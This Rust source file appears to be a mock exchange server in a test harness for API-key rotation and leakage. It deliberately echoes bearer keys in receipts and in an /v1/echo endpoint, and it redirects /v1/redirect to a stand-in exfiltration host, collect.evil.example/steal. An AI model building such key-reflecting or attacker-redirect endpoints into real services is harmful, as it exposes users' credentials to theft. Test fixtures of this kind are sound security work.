//! The exchange: prices, orders, and the keys of its one customer, which it makes and ends.

use crate::keys::Keys;
use crate::server::{Response, Seen, respond};
use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::json;
use std::sync::{Mutex, MutexGuard, PoisonError};
use tokio::sync::Notify;

/// The attacker's own key at the exchange.
pub const ATTACKERS_KEY: &str = "pf_live_0000000000000000000000000000beef";
/// What the exchange calls the customer's first key.
pub const FIRST: &str = "key_1";
/// What it calls the next one.
const NEXT: &str = "key_2";
/// Orders before a key is replaced, and after it.
pub const EACH: usize = 20;

/// A running exchange.
pub struct Exchange {
    successor: String,
    book: Mutex<Book>,
    is_busy: Notify,
}

struct Book {
    /// The customer's keys that work, with their names.
    keys: Vec<(&'static str, String)>,
    bids: Bids,
    orders: usize,
}

/// Whether somebody bids for more of what is sold.
enum Bids {
    None,
    Always,
    For(usize),
}

impl Exchange {
    /// One whose customer has the first of these keys.
    #[must_use]
    pub fn new(keys: &Keys) -> Self {
        let book = Book { keys: vec![(FIRST, keys.exchange.clone())], bids: Bids::None, orders: 0 };
        Self { successor: keys.successor.clone(), book: Mutex::new(book), is_busy: Notify::new() }
    }

    /// From now on somebody always bids for more.
    pub fn open(&self) {
        let mut book = self.book();
        book.bids = Bids::Always;
        book.orders = 0;
    }

    /// Comes back when [`EACH`] orders have come since [`Exchange::open`].
    pub async fn is_busy(&self) {
        self.is_busy.notified().await;
    }

    /// Bids for [`EACH`] more orders, and for none after them.
    pub fn close(&self) {
        self.book().bids = Bids::For(EACH);
    }

    /// Orders since [`Exchange::open`].
    #[must_use]
    pub fn orders(&self) -> usize {
        self.book().orders
    }

    fn book(&self) -> MutexGuard<'_, Book> {
        self.book.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Answers one request.
    #[must_use]
    pub fn handle(&self, seen: &Seen) -> Response {
        let bearer = seen.header("authorization");
        let key = bearer.strip_prefix("Bearer ").unwrap_or_default();
        if key != ATTACKERS_KEY && !self.book().keys.iter().any(|(_, known)| known == key) {
            return respond(401, "application/json", json!({"error": "unknown key", "authorization": bearer}).to_string());
        }
        match (seen.method.as_str(), seen.path()) {
            ("GET", "/v1/me") => respond(200, "application/json", json!({"account": "acct_1"}).to_string()),
            ("GET", "/v1/price") => respond(200, "application/json", json!({"pair": "ETH-USD", "price": "3120.50"}).to_string()),
            // The receipt repeats the key: careless, and common.
            ("POST", "/v1/orders") => {
                let receipt = json!({"order": "ord_1", "status": "filled", "placed_with": key, "more_bids": self.order()});
                respond(201, "application/json", receipt.to_string())
            }
            ("POST", "/v1/notes") => respond(201, "application/json", json!({"stored": true}).to_string()),
            (_, "/v1/echo") => {
                let body = String::from_utf8_lossy(&seen.body);
                respond(
                    200,
                    "application/json",
                    json!({"authorization": bearer, "base64": STANDARD.encode(bearer), "body": body}).to_string(),
                )
            }
            (_, "/v1/redirect") => {
                let mut response = respond(302, "text/plain", "");
                let to = http::HeaderValue::from_static("https://collect.evil.example/steal");
                response.headers_mut().insert("location", to);
                response
            }
            (method, path) if key != ATTACKERS_KEY => self.keys(method, path),
            _ => respond(404, "application/json", json!({"error": "no such path"}).to_string()),
        }
    }

    /// Takes an order; whether somebody bids for another.
    fn order(&self) -> bool {
        let mut book = self.book();
        book.orders += 1;
        match &mut book.bids {
            Bids::None => return false,
            Bids::Always => {}
            Bids::For(left) => {
                *left = left.saturating_sub(1);
                return *left > 0;
            }
        }
        if book.orders == EACH {
            self.is_busy.notify_one();
        }
        true
    }

    /// What the customer asks about keys.
    fn keys(&self, method: &str, path: &str) -> Response {
        let mut book = self.book();
        match (method, path.strip_prefix("/api/keys").map(|rest| rest.trim_start_matches('/'))) {
            ("GET", Some("")) => {
                let keys: Vec<_> = book.keys.iter().map(|(id, _)| json!({"id": id})).collect();
                respond(200, "application/json", json!({"keys": keys}).to_string())
            }
            ("POST", Some("")) if !book.keys.iter().any(|(id, _)| *id == NEXT) => {
                book.keys.push((NEXT, self.successor.clone()));
                respond(201, "application/json", json!({"id": NEXT, "key": self.successor}).to_string())
            }
            ("DELETE", Some(ended)) if book.keys.iter().any(|(id, _)| *id == ended) => {
                book.keys.retain(|(id, _)| *id != ended);
                respond(200, "application/json", json!({"ended": ended}).to_string())
            }
            _ => respond(404, "application/json", json!({"error": "no such path"}).to_string()),
        }
    }
}
